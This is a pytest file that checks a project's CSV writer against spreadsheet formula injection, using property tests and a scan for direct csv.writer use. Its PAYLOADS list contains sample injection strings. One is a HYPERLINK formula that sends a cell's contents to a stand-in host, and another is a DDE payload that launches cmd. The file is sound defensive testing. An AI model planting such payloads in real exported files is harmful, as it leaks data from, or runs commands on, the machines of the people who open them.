"""Every CSV Guichet writes is safe to open in a spreadsheet (issue 21, finding 6)."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guichet.core.spreadsheet import FORMULA_STARTS, safe_cell, writer

REPO = Path(__file__).resolve().parents[3]
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1;"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_leading_apostrophe_and_keeps_its_value(payload):
    assert safe_cell(payload) == "'" + payload


@given(st.text())
def test_a_cell_is_changed_only_when_it_could_be_a_formula(text):
    cell = safe_cell(text)
    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text
    else:
        assert cell == text


def test_numbers_stay_numbers():
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5


def test_the_writer_escapes_every_text_cell():
    buffer = io.StringIO()
    writer(buffer).writerows([["=1+1", "ok", 3]])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "ok", "3"]


def test_no_module_writes_a_csv_without_the_safe_writer():
    """csv.writer directly is allowed only where no spreadsheet will read the file, each said here."""
    allowed = {
        "guichet/core/spreadsheet.py": "the safe writer itself",
        "guichet/screening/batch/writing.py": "amounts are ours; the identifier column goes through safe_cells",
        "guichet/screening/services/caseload.py": "the normalised copy of an upload, read back by the engine",
        "guichet/screening/batch/synthetic.py": "synthetic households for benchmarks, all values ours",
        "guichet/places/communes.py": "the communes table, built from public sources, read back by Guichet",
    }
    found = {
        str(path.relative_to(REPO))
        for path in (REPO / "guichet").rglob("*.py")
        if "tests" not in path.parts and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text())
    }
    assert found <= set(allowed), sorted(found - set(allowed))
